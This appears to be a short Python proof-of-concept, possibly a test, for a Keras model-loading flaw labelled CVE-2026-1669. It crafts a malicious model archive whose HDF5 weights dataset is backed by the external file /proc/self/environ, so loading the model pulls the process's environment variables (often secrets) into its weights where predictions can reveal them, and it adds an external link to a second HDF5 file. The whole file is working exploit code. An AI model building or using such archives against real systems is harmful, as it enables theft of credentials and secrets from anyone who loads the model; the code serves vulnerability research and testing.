"""A data set in the weights keeps its bytes in another file of the machine, so that loading reads that file into the
model, whose predictions tell it (CVE-2026-1669). Another one is a link into a second HDF5 file.
"""

import io

import h5py


def write(draft):
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        weights = file.create_group("layers/dense/vars")
        weights.create_dataset("0", shape=(3072, 1), dtype="f4", external=[("/proc/self/environ", 0, 12288)])
        weights["1"] = h5py.ExternalLink("/in/trained.keras", "/x")
    dense = draft.layer("Dense", name="dense", units=1, activation="sigmoid")
    flat = draft.layer("Flatten", name="flatten")
    config = draft.sequential(flat, dense)
    for layer in config["config"]["layers"][1:]:
        layer["build_config"] = {"input_shape": [None, 3072] if layer is dense else [None, 32, 32, 3]}
    draft.model(draft.archive(config, weights=buffer.getvalue()))
